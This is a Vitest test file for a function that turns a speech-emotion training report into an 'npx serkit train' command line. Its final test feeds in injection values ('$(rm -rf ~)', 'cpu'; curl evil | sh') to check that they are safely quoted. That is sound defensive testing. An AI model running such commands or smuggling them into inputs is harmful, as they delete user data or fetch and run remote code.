import { describe, expect, it } from "vitest";
import { recipes, type TrainingReport } from "../../../src/index.ts";
import { trainingCommand } from "../../../src/report/content/trainingCommand.ts";
import { exampleReport } from "../exampleReport.ts";

const commandOf = (change: Partial<TrainingReport>): string => trainingCommand({ ...exampleReport, ...change }).text;
const definition = recipes["babko-cnn"];

describe("trainingCommand", () => {
  it("has the folders, the recipe and each option that decides the result", () => {
    expect(trainingCommand(exampleReport)).toEqual({
      text:
        "npx serkit train RAVDESS SAVEE --recipe babko-cnn --emotions neutral,happy,sad,angry,fearful,disgust,surprised " +
        "--merge calm=neutral --protocol all --test-size 0.25 --seed 7 --backend wasm",
      needsRecipeFile: false,
    });
  });

  it("leaves out what is the recipe's own", () => {
    expect(commandOf({ definition, merged: {}, comparison: [] })).toBe(
      "npx serkit train RAVDESS SAVEE --recipe babko-cnn --protocol speaker --test-size 0.25 --seed 7 --backend wasm",
    );
  });

  it("gives the epochs where they alone were changed", () => {
    const networks = definition.networks.map((network) => ({
      ...network,
      training: { ...network.training, epochs: 3 },
    }));
    expect(commandOf({ definition: { ...definition, networks } })).toContain("--recipe babko-cnn --epochs 3 --merge");
  });

  it("gives the folds where the recipe was scored by them", () => {
    const change = { definition, merged: {}, testSize: 1 };
    const scored = (folds: TrainingReport["folds"]): string => commandOf({ ...change, folds });
    expect(scored({ speakersPerFold: 2 })).toBe(
      "npx serkit train RAVDESS SAVEE --recipe babko-cnn --folds in-order:2 --seed 7 --backend wasm",
    );
    expect(scored("leave-one-speaker-out")).toContain(" --folds leave-one-out ");
    expect(scored(5)).toContain(" --folds 5 ");
  });

  it("reads the recipe from a file where it is no named one", () => {
    const own = { ...definition, validationSize: 0.3 };
    expect(trainingCommand({ ...exampleReport, definition: own })).toMatchObject({ needsRecipeFile: true });
    expect(commandOf({ definition: own })).toContain("--recipe recipe.json --merge");
    expect(commandOf({ definition: { ...definition, name: "constructor" } })).toContain("--recipe recipe.json");
  });

  it("puts nothing of a stranger's report before the shell", () => {
    const hostile = commandOf({
      corpora: exampleReport.corpora.map((corpus) => ({ ...corpus, id: "$(rm -rf ~)" })),
      backend: "cpu'; curl evil | sh\n#",
      merged: { calm: "`x`" as "sad" },
    });
    expect(hostile).toBe(
      "npx serkit train FOLDER --recipe babko-cnn --emotions neutral,happy,sad,angry,fearful,disgust,surprised " +
        String.raw`--merge 'calm=${"`x`"}' --protocol all --test-size 0.25 --seed 7 --backend 'cpu'\''; curl evil | sh #'`,
    );
  });
});
